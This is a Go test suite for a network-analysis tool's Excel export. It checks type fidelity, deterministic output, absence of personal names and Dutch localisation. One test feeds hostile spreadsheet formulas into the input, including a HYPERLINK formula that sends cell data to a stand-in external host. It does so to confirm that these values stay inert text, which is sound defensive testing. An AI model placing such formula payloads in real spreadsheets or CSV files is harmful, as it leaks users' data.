package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"gbo/graph/output"
	"gbo/metrics/boundary"
)

// dumpWorkbook is a python script that reads a workbook with openpyxl and
// prints every sheet as JSON: {"sheets": [names], "cells": {sheet: [[{"t":
// type, "v": value}]]}}, type one of str, int, float, bool, date, none.
const dumpWorkbook = `import sys, json, datetime, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
out = {"sheets": wb.sheetnames, "cells": {}, "frozen": {}, "filter": {}, "bold": {}}
for ws in wb.worksheets:
    rows = []
    for row in ws.iter_rows():
        r = []
        for c in row:
            v = c.value
            if v is None: r.append({"t": "none"})
            elif isinstance(v, bool): r.append({"t": "bool", "v": v})
            elif isinstance(v, int): r.append({"t": "int", "v": v})
            elif isinstance(v, float): r.append({"t": "float", "v": repr(v)})
            elif isinstance(v, datetime.datetime):
                r.append({"t": "date" if c.is_date else "datetime-not-date", "v": v.date().isoformat()})
            else: r.append({"t": "str", "v": v})
        rows.append(r)
    out["cells"][ws.title] = rows
    out["frozen"][ws.title] = ws.freeze_panes
    out["filter"][ws.title] = ws.auto_filter.ref
    out["bold"][ws.title] = all(c.font.b for c in ws[1 if ws.title not in ("About", "Uitleg") else 6] if c.value is not None)
print(json.dumps(out))
`

type xcell struct {
	T string `json:"t"`
	V any    `json:"v"`
}

type xbook struct {
	Sheets []string             `json:"sheets"`
	Cells  map[string][][]xcell `json:"cells"`
	Frozen map[string]string    `json:"frozen"`
	Filter map[string]string    `json:"filter"`
	Bold   map[string]bool      `json:"bold"`
}

func readBook(t *testing.T, py, path string) xbook {
	t.Helper()
	var b xbook
	if err := json.Unmarshal([]byte(runPy(t, py, dumpWorkbook, path)), &b); err != nil {
		t.Fatal(err)
	}
	return b
}

// records are a sheet's rows below its header as maps by header.
func (b xbook) records(t *testing.T, sheet string) []map[string]xcell {
	t.Helper()
	rows, ok := b.Cells[sheet]
	if !ok || len(rows) == 0 {
		t.Fatalf("no sheet %q in %v", sheet, b.Sheets)
	}
	var out []map[string]xcell
	for _, r := range rows[1:] {
		m := map[string]xcell{}
		for i, c := range r {
			m[rows[0][i].V.(string)] = c
		}
		out = append(out, m)
	}
	return out
}

// sameCell reports whether a workbook cell holds the JSON value want: a
// number as a number cell (int or float, equal within 1e-12), a bool as a
// bool cell, a string as a string cell, null as an empty cell.
func sameCell(c xcell, want any) string {
	switch w := want.(type) {
	case nil:
		if c.T != "none" {
			return fmt.Sprintf("want an empty cell, got %s %v", c.T, c.V)
		}
	case float64:
		var got float64
		switch c.T {
		case "int":
			got = c.V.(float64)
		case "float":
			fmt.Sscan(c.V.(string), &got)
		default:
			return fmt.Sprintf("want the number %v, got a %s cell %v", w, c.T, c.V)
		}
		if math.Abs(got-w) > 1e-12 {
			return fmt.Sprintf("want %v, got %v", w, got)
		}
	case bool:
		if c.T != "bool" || c.V != w {
			return fmt.Sprintf("want bool %v, got %s %v", w, c.T, c.V)
		}
	case string:
		if c.T != "str" || c.V != w {
			return fmt.Sprintf("want text %q, got %s %v", w, c.T, c.V)
		}
	default:
		return fmt.Sprintf("unexpected JSON value %T", want)
	}
	return ""
}

func jsonDoc(t *testing.T, args ...string) map[string]any {
	t.Helper()
	out, stderr, code := runGBO(t, append([]string{"--lang", "en"}, args...)...)
	if code != 0 {
		t.Fatalf("%v: exit %d: %s", args, code, stderr)
	}
	var d map[string]any
	if err := json.Unmarshal([]byte(out), &d); err != nil {
		t.Fatal(err)
	}
	return d
}

func joinJSON(v any, sep string) string {
	var s []string
	for _, x := range v.([]any) {
		s = append(s, x.(string))
	}
	return strings.Join(s, sep)
}

// The workbook of `gbo export -o FILE.xlsx` holds what the JSON outputs
// hold: every partner's measures as `gbo metrics`, every tie as `gbo ties`
// (with both ratings), every weak link as `gbo weak` in its order and
// count, every object as `gbo objects`; numbers as number cells, dates as
// date cells; headers bold, frozen and filtered; the same bytes twice; and
// no person's name.
func TestExportWorkbookHoldsTheJSONOutputs(t *testing.T) {
	py := openpyxl(t)
	dir := t.TempDir()
	for _, name := range []string{"grensobject", "golf-2024"} {
		t.Run(name, func(t *testing.T) {
			src := "sample:" + name
			path := filepath.Join(dir, name+".xlsx")
			if _, stderr, code := runGBO(t, "--lang", "en", "export", src, "-o", path); code != 0 {
				t.Fatalf("exit %d: %s", code, stderr)
			}
			first, _ := os.ReadFile(path)
			again := filepath.Join(dir, name+"-again.xlsx")
			runGBO(t, "--lang", "en", "export", src, "-o", again)
			if second, _ := os.ReadFile(again); len(first) == 0 || !bytes.Equal(first, second) {
				t.Errorf("two runs wrote different bytes (%d, %d)", len(first), len(second))
			}
			b := readBook(t, py, path)
			if got := strings.Join(b.Sheets, ","); got != "About,Partners,Ties,Weak links,Boundary objects" {
				t.Errorf("sheets %s", got)
			}
			for _, s := range b.Sheets {
				want := "A2"
				if s == "About" {
					want = "A7"
				}
				if b.Frozen[s] != want || b.Filter[s] == "" || !b.Bold[s] {
					t.Errorf("%s: frozen %q (want %s), filter %q, bold header %v", s, b.Frozen[s], want, b.Filter[s], b.Bold[s])
				}
			}

			// Partners: every field of gbo metrics, brokerage flattened.
			m := jsonDoc(t, "metrics", src, "--format", "json")
			recs := b.records(t, "Partners")
			ps := m["partners"].([]any)
			if len(recs) != len(ps) {
				t.Fatalf("%d partner rows, metrics has %d", len(recs), len(ps))
			}
			for i, p := range ps {
				for k, v := range p.(map[string]any) {
					if k == "brokerage" {
						for bk, bv := range v.(map[string]any) {
							if d := sameCell(recs[i]["brokerage_"+bk], bv); d != "" {
								t.Errorf("partner %d brokerage_%s: %s", i, bk, d)
							}
						}
						continue
					}
					if d := sameCell(recs[i][k], v); d != "" {
						t.Errorf("partner %d %s: %s", i, k, d)
					}
				}
			}

			// Ties: as gbo ties, dates as date cells, both ratings.
			ties := jsonDoc(t, "ties", src, "--format", "json")["ties"].([]any)
			recs = b.records(t, "Ties")
			if len(recs) != len(ties) {
				t.Fatalf("%d tie rows, gbo ties has %d", len(recs), len(ties))
			}
			rated := 0
			for i, x := range ties {
				tie := x.(map[string]any)
				a, bb := tie["a"].(string), tie["b"].(string)
				for _, k := range []string{"a", "b", "depth", "depth_score", "depth_events", "depth_survey", "gap", "one_sided", "events"} {
					if d := sameCell(recs[i][k], tie[k]); d != "" {
						t.Errorf("tie %d %s: %s", i, k, d)
					}
				}
				for _, k := range []string{"first", "last"} {
					c := recs[i][k]
					if tie[k] == nil && c.T != "none" || tie[k] != nil && (c.T != "date" || c.V != tie[k]) {
						t.Errorf("tie %d %s: %s %v, want a date cell %v", i, k, c.T, c.V, tie[k])
					}
				}
				if d := sameCell(recs[i]["flags"], emptyNil(joinJSON(tie["flags"], ", "))); d != "" {
					t.Errorf("tie %d flags: %s", i, d)
				}
				if d := sameCell(recs[i]["objects"], emptyNil(joinJSON(tie["objects"], ", "))); d != "" {
					t.Errorf("tie %d objects: %s", i, d)
				}
				for side, id := range map[string]string{"a": a, "b": bb} {
					for _, k := range []string{"initiated", "carriers"} {
						var want any
						if m, ok := tie[k].(map[string]any); ok {
							want = m[id]
						}
						if d := sameCell(recs[i][k+"_"+side], want); d != "" {
							t.Errorf("tie %d %s_%s: %s", i, k, side, d)
						}
					}
					rs, _ := tie["ratings"].(map[string]any)
					r, _ := rs[id].(map[string]any)
					if r != nil {
						rated++
					}
					for _, k := range []string{"depth", "trust", "value", "weight"} {
						c, ok := recs[i]["rating_"+side+"_"+k]
						if !ok {
							if rs != nil {
								t.Fatalf("tie %d is rated, the sheet has no rating columns", i)
							}
							continue
						}
						var want any
						if r != nil {
							want = r[k]
						}
						if d := sameCell(c, want); d != "" {
							t.Errorf("tie %d rating_%s_%s: %s", i, side, k, d)
						}
					}
				}
			}
			if name == "golf-2024" && rated == 0 {
				t.Error("golf-2024 has ratings; no rating reached the ties sheet")
			}

			// Weak links: all of them, in gbo weak's order.
			weak := jsonDoc(t, "weak", src, "--format", "json")
			wl := weak["weak"].([]any)
			recs = b.records(t, "Weak links")
			if n := weak["counts"].(map[string]any)["weak"].(float64); len(recs) != int(n) || len(wl) != int(n) {
				t.Fatalf("%d weak rows, gbo weak lists %d and counts %v", len(recs), len(wl), n)
			}
			for i, x := range wl {
				w := x.(map[string]any)
				for k, want := range map[string]any{"a": w["a"], "b": w["b"], "depth": w["depth"],
					"reasons": joinJSON(w["reasons"], ", "), "families": joinJSON(w["families"], ", "), "texts": joinJSON(w["texts"], "; ")} {
					if d := sameCell(recs[i][k], want); d != "" {
						t.Errorf("weak link %d %s: %s", i, k, d)
					}
				}
			}

			// Boundary objects: as gbo objects.
			objs := jsonDoc(t, "objects", src, "--format", "json")["objects"].([]any)
			recs = b.records(t, "Boundary objects")
			if len(recs) != len(objs) {
				t.Fatalf("%d object rows, gbo objects has %d", len(recs), len(objs))
			}
			for i, x := range objs {
				o := x.(map[string]any)
				var texts []string
				for _, r := range o["reasons"].([]any) {
					texts = append(texts, r.(map[string]any)["text"].(string))
				}
				want := map[string]any{"verdict": verdictName(boundary.Verdict(o["verdict"].(string)), "en"),
					"partner_ids": emptyNil(joinJSON(o["partner_ids"], ", ")), "sectors": emptyNil(joinJSON(o["sectors"], ", ")),
					"reasons": emptyNil(strings.Join(texts, "; "))}
				for _, k := range []string{"id", "name", "partners", "blau", "max_rung", "mean_rung", "events", "unique_pairs", "degree_centrality", "betweenness"} {
					want[k] = o[k]
				}
				for k, v := range want {
					if d := sameCell(recs[i][k], v); d != "" {
						t.Errorf("object %d %s: %s", i, k, d)
					}
				}
			}

			// No person's name, anywhere.
			for _, n := range sampleNames(t, name) {
				for s, rows := range b.Cells {
					for _, r := range rows {
						for _, c := range r {
							if v, ok := c.V.(string); ok && strings.Contains(v, n) {
								t.Errorf("sheet %s names %q: %q", s, n, v)
							}
						}
					}
				}
			}
		})
	}
}

func emptyNil(s string) any {
	if s == "" {
		return nil
	}
	return s
}

// sampleNames are the names of the people of a sample's people.csv.
func sampleNames(t *testing.T, name string) []string {
	t.Helper()
	f, err := os.Open(filepath.Join("..", "..", "samples", "data", name, "people.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := -1
	for i, h := range rows[0] {
		if h == "name" {
			col = i
		}
	}
	var out []string
	for _, r := range rows[1:] {
		if col >= 0 && r[col] != "" {
			out = append(out, r[col])
		}
	}
	if len(out) == 0 {
		t.Fatalf("%s: people.csv names nobody; the test would prove nothing", name)
	}
	return out
}

// A partner, sector or object whose name a spreadsheet would run as a
// formula stays text, neutralised as the CSV export does (output.FormulaSafe).
func TestExportWorkbookKeepsFormulasText(t *testing.T) {
	py := openpyxl(t)
	dir := t.TempDir()
	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"klik")`, "+32 9 123", "@SUM(A1:A9)", "-2+3", "\u200b=1+1", "＝1+1"}
	var p strings.Builder
	p.WriteString("id,name,sector\n")
	var ev strings.Builder
	ev.WriteString("date,from,with,kind,object\n")
	for i, h := range hostile {
		q := `"` + strings.ReplaceAll(h, `"`, `""`) + `"`
		fmt.Fprintf(&p, "p%d,%s,%s\n", i, q, q)
		if i > 0 {
			fmt.Fprintf(&ev, "2024-0%d-1%d,p0,p%d,referral,o1\n", i, i, i)
		}
	}
	caseDir := filepath.Join(dir, "case")
	os.Mkdir(caseDir, 0o755)
	os.WriteFile(filepath.Join(caseDir, "partners.csv"), []byte(p.String()), 0o644)
	os.WriteFile(filepath.Join(caseDir, "interactions.csv"), []byte(ev.String()), 0o644)
	os.WriteFile(filepath.Join(caseDir, "objects.csv"), []byte("id,name\no1,\"=1+1\"\n"), 0o644)
	out := filepath.Join(dir, "net.xlsx")
	if _, stderr, code := runGBO(t, "export", caseDir, "-o", out); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	b := readBook(t, py, out)
	recs := b.records(t, "Partners")
	if len(recs) != len(hostile) {
		t.Fatalf("%d partner rows, want %d", len(recs), len(hostile))
	}
	for i, h := range hostile {
		want := output.SafeCell(h)
		for _, k := range []string{"name", "sector"} {
			if d := sameCell(recs[i][k], want); d != "" {
				t.Errorf("partner p%d %s: %s", i, k, d)
			}
		}
	}
	if d := sameCell(b.records(t, "Boundary objects")[0]["name"], "'=1+1"); d != "" {
		t.Errorf("object name: %s", d)
	}
}

// The workbook is never written over a file the run read, and with --lang
// nl its sheets have Dutch names.
func TestExportWorkbookRefusesInputsAndSpeaksDutch(t *testing.T) {
	py := openpyxl(t)
	dir := t.TempDir()
	book := filepath.Join(dir, "gegevens.xlsx")
	if _, stderr, code := runGBO(t, "template", "--from", "sample:kennismaking", "-o", book); code != 0 {
		t.Fatalf("template: exit %d: %s", code, stderr)
	}
	refused(t, book, "", "export", book, "-o", book)
	refused(t, filepath.Join(dir, "net.xlsm"), ".xlsx", "export", "sample:kennismaking", "-o", filepath.Join(dir, "net.xlsm"))
	nl := filepath.Join(dir, "nl.xlsx")
	if _, stderr, code := runGBO(t, "--lang", "nl", "export", book, "-o", nl); code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	b := readBook(t, py, nl)
	if got := strings.Join(b.Sheets, ","); got != "Uitleg,Partners,Banden,Zwakke schakels,Grensobjecten" {
		t.Errorf("Dutch sheets: %s", got)
	}
	if h := b.Cells["Banden"][0]; h[2].V != "diepte" || h[3].V != "trede" {
		t.Errorf("Dutch headers of Banden: %v", h)
	}
}
